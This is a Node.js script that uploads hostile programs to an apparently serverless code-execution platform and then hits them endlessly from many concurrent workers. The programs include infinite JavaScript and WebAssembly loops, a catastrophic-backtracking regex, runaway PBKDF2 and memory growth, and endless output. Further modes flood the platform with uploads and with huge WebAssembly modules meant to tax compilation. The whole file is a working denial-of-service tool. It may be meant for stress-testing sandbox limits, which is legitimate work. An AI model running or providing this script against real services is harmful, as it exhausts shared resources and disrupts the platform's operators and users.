// Programs that mean ill, so many at a time, until it is ended: node attack.mjs URL KEY KIND NUMBER. Prints a line when all are under way.
import http from "node:http";

const [url, key, kind, number] = process.argv.slice(2);
const agent = new http.Agent({ keepAlive: true, maxSockets: Infinity });

// (module (func (export "_start") (loop (br 0))))
const LOOP = Buffer.from("0061736d010000000104016000000302010007 0a01065f737461727400000a09010700 03400c000b0b".replaceAll(" ", ""), "hex");
const javascript = (body) => `export default { async fetch() { ${body} } };`;
const PROGRAMS = {
  loop: javascript("for (;;);"),
  wasm: LOOP,
  regex: javascript(`return new Response(String(/^(a+)+$/.test("a".repeat(40) + "b")));`),
  builtins: javascript(`const list = Array.from({ length: 50_000 }, (_, at) => (at * 7919) % 50_000);
    for (;;) JSON.parse(JSON.stringify(list.toSorted()));`),
  crypto: javascript(`const key = await crypto.subtle.importKey("raw", new Uint8Array(8), "PBKDF2", false, ["deriveBits"]);
    for (;;) await crypto.subtle.deriveBits({ name: "PBKDF2", hash: "SHA-256", salt: new Uint8Array(8), iterations: 2_000_000 }, key, 256);`),
  memory: javascript("const all = []; for (;;) all.push(new Uint8Array(1 << 20).fill(1));"),
  output: javascript("return new Response(new ReadableStream({ pull: (to) => to.enqueue(new Uint8Array(65_536)) }));"),
};

function ask(method, path, headers = {}, body) {
  return new Promise((resolve) => {
    const request = http.request(url + path, { method, headers, agent }, (answer) => {
      answer.on("data", () => {});
      answer.on("close", () => resolve(answer.statusCode));
    });
    request.on("error", () => resolve(0));
    request.end(body);
  });
}

const store = (path, body) =>
  ask("PUT", `${path}?executable=true&private=false`, { "x-access-key": key, "content-type": typeof body === "string" ? "text/javascript" : "application/wasm" }, body);

// A number as WebAssembly writes it.
const leb = (value) => (value < 128 ? [value] : [(value & 127) | 128, ...leb(value >>> 7)]);
const section = (id, content) => [id, ...leb(content.length), ...content];

// A module whose functions add and multiply for long: five thousand instructions each.
function large(functions, seed) {
  const body = [0, 0x41, ...leb(seed % 64)];
  for (let at = 0; at < 1_250; at++) body.push(0x41, at % 64, 0x6a, 0x41, (at * 7) % 64, 0x6c);
  body.push(0x1a, 0x0b);
  const one = [...leb(body.length), ...body];
  const code = [...leb(functions)];
  for (let at = 0; at < functions; at++) for (const byte of one) code.push(byte);
  const head = [0, 0x61, 0x73, 0x6d, 1, 0, 0, 0, ...section(1, [1, 0x60, 0, 0])];
  const types = section(3, [...leb(functions), ...Array(functions).fill(0)]);
  const exports = section(7, [1, 6, ...Buffer.from("_start"), 0, 0]);
  return Buffer.concat([head, types, exports, [10, ...leb(code.length)], code].map((part) => Buffer.from(part)));
}

let round = 0;
const ATTACKS = {
  storing: () => store(`/bad/storing-${round++ % 100}`, javascript(`return new Response("${round}");`)),
  compiling: () => store(`/bad/compiling-${round++ % 100}`, large(200, round)),
};
const attack = ATTACKS[kind] ?? (() => ask("GET", `/bad/${kind}`));
if (!ATTACKS[kind]) {
  const stored = await store(`/bad/${kind}`, PROGRAMS[kind]);
  if (stored !== 200 && stored !== 201) throw new Error(`${kind} is not stored: ${stored}`);
}
const again = async () => {
  for (;;) await attack();
};
for (let one = 0; one < Number(number); one++) again();
setTimeout(() => console.log("under way"), 1_000);
